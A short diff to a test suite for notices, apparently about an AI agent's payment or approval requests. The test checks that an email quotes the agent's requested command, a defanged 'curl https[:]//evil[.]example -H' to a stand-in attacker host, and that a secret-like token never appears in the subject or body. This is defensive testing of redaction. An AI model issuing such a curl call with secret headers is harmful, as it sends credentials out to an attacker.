@@ -120,7 +120,8 @@ describe("notices", () => {
     expect(sent[0]?.subject).toContain(
       `12.00 EUR to ${"P".repeat(60)}…: ${slug()} asks you: curl https[:]//evil[.]example -H`,
     );
-    expect(sent[0]?.subject).not.toContain("0123456789abcdef");
+    expect(sent[0]?.text).toContain("Call, in the agent's own words:\n> curl https[:]//evil[.]example -H");
+    for (const text of [sent[0]?.subject, sent[0]?.text]) expect(text).not.toContain("0123456789abcdef");
   });
 
   it("say that the agent is frozen, and what can be decided then", async () => {
